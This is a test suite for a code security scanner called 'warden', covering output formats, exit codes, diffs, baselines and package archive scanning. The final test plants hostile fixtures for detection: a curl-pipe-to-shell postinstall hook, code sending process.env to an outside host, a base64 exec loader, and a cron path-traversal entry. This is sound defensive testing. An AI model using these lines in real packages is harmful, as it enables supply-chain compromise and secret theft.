import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, mkdirSync, symlinkSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const BIN = join(import.meta.dirname, '..', 'bin', 'warden.js');
function warden(args: string[], opts: { cwd?: string; input?: string } = {}) {
  const r = spawnSync(process.execPath, [BIN, ...args], {
    cwd: opts.cwd,
    input: opts.input,
    encoding: 'utf8',
    timeout: 60_000,
    // (a folder scan's JSON passes 1 MB, spawnSync's default, beyond which the child is killed)
    maxBuffer: 64 * 1024 * 1024,
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}
const tmp = () => mkdtempSync(join(tmpdir(), 'warden-test-'));

test('scan of the bundled example finds the planted problems and exits 1', () => {
  const r = warden(['scan', 'examples/agent-session', '--format', 'json'], { cwd: join(import.meta.dirname, '..') });
  assert.equal(r.code, 1, r.err);
  const ids = new Set((JSON.parse(r.out).findings as { ruleId: string }[]).map((f) => f.ruleId));
  for (const id of [
    'secret.openai-key',
    'python.sql-injection',
    'backdoor.decode-exec',
    'backdoor.credential-exfil',
    'backdoor.master-password',
    'unicode.invisible',
    'agent-config.hooks-disabled',
    'js.child-process-injection',
  ])
    assert.ok(ids.has(id), `missing ${id}`);
});

test('json output has findings with the documented fields and stats', () => {
  const d = tmp();
  writeFileSync(join(d, 'a.py'), 'import os\nos.system("ls " + name)\n');
  const r = warden(['scan', '.', '--format', 'json'], { cwd: d });
  const j = JSON.parse(r.out);
  const f = j.findings[0];
  for (const k of [
    'ruleId',
    'title',
    'severity',
    'confidence',
    'category',
    'cwe',
    'file',
    'line',
    'column',
    'endLine',
    'endColumn',
    'snippet',
    'message',
    'fix',
    'fingerprint',
  ])
    assert.ok(k in f, k);
  assert.equal(f.severity, 'high');
  assert.equal(f.line, 2);
  assert.equal(j.stats.files, 1);
});

test('exit codes: 0 below --fail-on, 1 at or above, 2 on usage errors and missing paths', () => {
  const d = tmp();
  writeFileSync(join(d, 'r.py'), 'import random\nx = random.random()\n');
  assert.equal(warden(['scan', '.'], { cwd: d }).code, 0);
  assert.equal(warden(['scan', '.', '--fail-on', 'low'], { cwd: d }).code, 1);
  assert.equal(warden(['scan', '--bogus'], { cwd: d }).code, 2);
  const missing = warden(['scan', 'nope'], { cwd: d });
  assert.equal(missing.code, 2);
  assert.match(missing.out, /path does not exist/);
});

test('sarif output is SARIF 2.1.0 with rules, CWE tags and fingerprints', () => {
  const d = tmp();
  writeFileSync(join(d, 'a.js'), "const cp = require('child_process');\ncp.exec('ls ' + dir);\n");
  const s = JSON.parse(warden(['scan', '.', '--format', 'sarif'], { cwd: d }).out);
  assert.equal(s.version, '2.1.0');
  const run = s.runs[0];
  assert.ok(run.tool.driver.rules.length >= 1);
  assert.ok(run.tool.driver.rules[0].properties.tags.includes('external/cwe/cwe-78'));
  assert.ok(run.tool.driver.rules[0].help.text.length > 0);
  assert.ok(run.results[0].partialFingerprints['wardenFingerprint/v1']);
  assert.equal(run.results[0].locations[0].physicalLocation.region.startLine, 2);
});

test('--stdin --lang scans a snippet; --patch scans only added lines', () => {
  const r = warden(['scan', '--stdin', '--lang', 'python', '--format', 'json'], {
    input: 'import pickle\npickle.loads(data)\n',
  });
  assert.equal(JSON.parse(r.out).findings[0].ruleId, 'python.pickle-deserialization');
  const patch = [
    '--- a/x.py',
    '+++ b/x.py',
    '@@ -1,1 +1,3 @@',
    ' import os',
    '+import pickle',
    '+obj = pickle.loads(blob)',
    '',
  ].join('\n');
  const p = warden(['scan', '--patch', '-', '--format', 'json'], { input: patch, cwd: tmp() });
  const fs = JSON.parse(p.out).findings;
  assert.equal(fs.length, 1);
  assert.equal(fs[0].line, 3);
});

test('--diff REV scans only changed lines of a git repository', () => {
  const d = tmp();
  const git = (...a: string[]) => spawnSync('git', a, { cwd: d, encoding: 'utf8' });
  git('init', '-q');
  git('config', 'user.email', 't@example.com');
  git('config', 'user.name', 't');
  writeFileSync(join(d, 'old.py'), 'import os\nos.system("rm " + f)\n');
  git('add', '.');
  git('commit', '-qm', 'base');
  writeFileSync(join(d, 'old.py'), 'import os\nos.system("rm " + f)\neval(user_input)\n');
  const fs = JSON.parse(warden(['scan', '--diff', 'HEAD', '--format', 'json'], { cwd: d }).out).findings;
  assert.deepEqual(
    fs.map((f: { ruleId: string; line: number }) => `${f.ruleId}:${f.line}`),
    ['python.eval-injection:3'],
  );
});

test('inline suppressions and baselines are reported, not silent', () => {
  const d = tmp();
  writeFileSync(
    join(d, 'a.py'),
    'import os\nos.system("ls " + d)  # warden-ignore: python.os-system-injection input is a fixed enum\neval(x)\n',
  );
  const j = JSON.parse(warden(['scan', '.', '--format', 'json'], { cwd: d }).out);
  const sup = j.findings.find((f: { ruleId: string }) => f.ruleId === 'python.os-system-injection');
  assert.equal(sup.suppressed.by, 'inline');
  assert.match(sup.suppressed.reason, /fixed enum/);
  assert.equal(j.stats.suppressed, 1);
  assert.equal(warden(['scan', '.', '--write-baseline', 'base.json'], { cwd: d }).code, 1);
  const after = warden(['scan', '.', '--baseline', 'base.json', '--format', 'json'], { cwd: d });
  assert.equal(after.code, 0);
  assert.ok(JSON.parse(after.out).findings.every((f: { suppressed?: unknown }) => f.suppressed));
});

test('config file: unknown keys and bad values are clear errors; rules can be disabled', () => {
  const d = tmp();
  writeFileSync(join(d, 'a.py'), 'import random\nx = random.random()\n');
  writeFileSync(join(d, '.warden.yml'), 'fail-on: loud\n');
  const bad = warden(['scan', '.'], { cwd: d });
  assert.equal(bad.code, 2);
  assert.match(bad.err, /fail-on must be one of/);
  writeFileSync(join(d, '.warden.yml'), 'rulez: {}\n');
  assert.match(warden(['scan', '.'], { cwd: d }).err, /unknown key 'rulez'/);
  writeFileSync(join(d, '.warden.yml'), 'fail-on: low\nrules:\n  disable: [python.weak-random]\n');
  assert.equal(warden(['scan', '.'], { cwd: d }).code, 0);
});

test('bad input: binary, invalid UTF-8, minified, symlink loops, ignored and huge files are noted, not fatal', () => {
  const d = tmp();
  writeFileSync(join(d, 'bin.py'), Buffer.from([0x70, 0x00, 0x01, 0x02]));
  writeFileSync(join(d, 'latin.py'), Buffer.from('x = "caf\xe9"\neval(x)\n', 'latin1'));
  writeFileSync(join(d, 'app.min.js'), 'var a=1;'.repeat(10));
  writeFileSync(join(d, 'big.js'), 'x'.repeat(2_000_000));
  mkdirSync(join(d, 'loop'));
  symlinkSync(join(d, 'loop'), join(d, 'loop', 'self'));
  writeFileSync(join(d, '.gitignore'), 'ignored.py\n');
  writeFileSync(join(d, 'ignored.py'), 'eval(x)\n');
  const nested = 'x = ' + '('.repeat(5000) + '1' + ')'.repeat(5000) + '\n';
  writeFileSync(join(d, 'deep.py'), nested);
  const r = warden(['scan', '.', '--format', 'json'], { cwd: d });
  assert.equal(r.code, 1, r.err);
  const j = JSON.parse(r.out);
  const notes = j.notes.map((n: { file: string; reason: string }) => `${n.file}: ${n.reason}`).join('\n');
  assert.match(notes, /bin\.py: binary/);
  assert.match(notes, /latin\.py: not valid UTF-8/);
  assert.match(notes, /app\.min\.js: minified/);
  assert.match(notes, /big\.js: larger than max-file-size/);
  assert.match(notes, /self: symbolic link/);
  assert.ok(j.findings.some((f: { file: string }) => f.file === 'latin.py'));
  assert.ok(!j.findings.some((f: { file: string }) => f.file === 'ignored.py'));
});

test('rules list and rules test work from the command line', () => {
  const root = join(import.meta.dirname, '..');
  const list = warden(['rules', 'list'], { cwd: root });
  assert.equal(list.code, 0);
  const cwes = new Set(
    list.out
      .split('\n')
      .map((l) => l.split('\t')[2])
      .filter((c) => c && c !== '-'),
  );
  assert.ok(cwes.size >= 40, `only ${cwes.size} distinct CWEs`);
  assert.equal(warden(['rules', 'test', 'python/'], { cwd: root }).code, 0);
});

test("no output format carries a secret value, in secret findings or in other findings' snippets", () => {
  const d = tmp();
  const token = 'ghp_R3aLl9qWkT0kVn4uXe8s2ZpL7mHc5bYd1fGj';
  writeFileSync(join(d, 'auth.py'), `def check(token):\n    if token == "${token}":\n        return True\n`);
  for (const format of ['text', 'json', 'sarif']) {
    const r = warden(['scan', '.', '--format', format, '--no-color'], { cwd: d });
    assert.equal(r.code, 1);
    assert.ok(!r.out.includes(token), `${format} output leaks the token`);
    assert.match(r.out, /ghp_\*+Gj/);
  }
});

test("--diff from a subfolder of the repository scans that folder's changes", () => {
  const d = tmp();
  const git = (...a: string[]) => spawnSync('git', a, { cwd: d, encoding: 'utf8' });
  git('init', '-q');
  git('config', 'user.email', 't@example.com');
  git('config', 'user.name', 't');
  mkdirSync(join(d, 'svc'));
  writeFileSync(join(d, 'svc', 'a.py'), 'x = 1\n');
  git('add', '.');
  git('commit', '-qm', 'base');
  writeFileSync(join(d, 'svc', 'a.py'), 'x = 1\neval(user_input)\n');
  const fs = JSON.parse(warden(['scan', '--diff', 'HEAD', '--format', 'json'], { cwd: join(d, 'svc') }).out).findings;
  assert.deepEqual(
    fs.map((f: { file: string; line: number }) => `${f.file}:${f.line}`),
    ['a.py:2'],
  );
});

test('a parallel folder scan reports exactly what a sequential one does', () => {
  const d = tmp();
  const ex = join(import.meta.dirname, '..', 'examples', 'agent-session');
  const app = readFileSync(join(ex, 'app.py'), 'utf8'),
    server = readFileSync(join(ex, 'server.js'), 'utf8');
  const filler = 'def helper_%d(x):\n    return [i * x for i in range(10)]\n\n';
  // Over the 2 MB threshold from which workers are used, with findings spread across files.
  for (let i = 0; i < 120; i++) {
    mkdirSync(join(d, `m${i % 7}`), { recursive: true });
    writeFileSync(
      join(d, `m${i % 7}`, `f${i}.py`),
      app + Array.from({ length: 400 }, (_, k) => filler.replaceAll('%d', String(k))).join(''),
    );
    if (i % 10 === 0) writeFileSync(join(d, `m${i % 7}`, `s${i}.js`), server);
  }
  const seq = warden(['scan', '.', '--format', 'json', '--jobs', '1'], { cwd: d });
  const par = warden(['scan', '.', '--format', 'json', '--jobs', '2'], { cwd: d });
  assert.equal(seq.code, 1, seq.err);
  assert.equal(par.code, 1, par.err);
  const strip = (o: string) => {
    const j = JSON.parse(o);
    delete j.stats.durationMs;
    return j;
  };
  assert.ok(strip(seq.out).stats.bytes > 2_000_000);
  assert.deepEqual(strip(par.out), strip(seq.out));
});

test('package archives (.tgz, .whl) are scanned member by member without extracting', () => {
  const d = tmp();
  mkdirSync(join(d, 'package'));
  writeFileSync(
    join(d, 'package', 'package.json'),
    '{ "name": "x", "scripts": { "postinstall": "curl -s http://203.0.113.9/i.sh | sh" }, "dependencies": { "loadsh": "1.0.0" } }',
  );
  writeFileSync(
    join(d, 'package', 'index.js'),
    "require('https').request({ hostname: 'x.oast.fun' }).end(JSON.stringify(process.env));\n",
  );
  spawnSync('tar', ['czf', 'x-1.0.0.tgz', 'package'], { cwd: d });
  spawnSync(
    'python3',
    [
      '-c',
      "import zipfile\nz=zipfile.ZipFile('x-1.0-py3-none-any.whl','w')\nz.writestr('x/__init__.py','import base64\\nexec(base64.b64decode(\"aWQ=\"))\\n')\nz.writestr('../../etc/cron.d/x','* * * * * root id')\nz.close()",
    ],
    { cwd: d },
  );
  const r = warden(['scan', 'x-1.0.0.tgz', 'x-1.0-py3-none-any.whl', '--format', 'json'], { cwd: d });
  assert.equal(r.code, 1, r.err);
  const got = (JSON.parse(r.out).findings as { ruleId: string; file: string }[]).map(
    (f) => `${f.file.split('!')[1]} ${f.ruleId}`,
  );
  for (const want of [
    'package/package.json supply-chain.install-script',
    'package/package.json supply-chain.typosquat',
    'package/index.js package.js.reads-secrets',
    'x/__init__.py backdoor.decode-exec',
    '../../etc/cron.d/x archive.path-traversal',
  ])
    assert.ok(got.includes(want), `${want} in ${got.join('; ')}`);
});
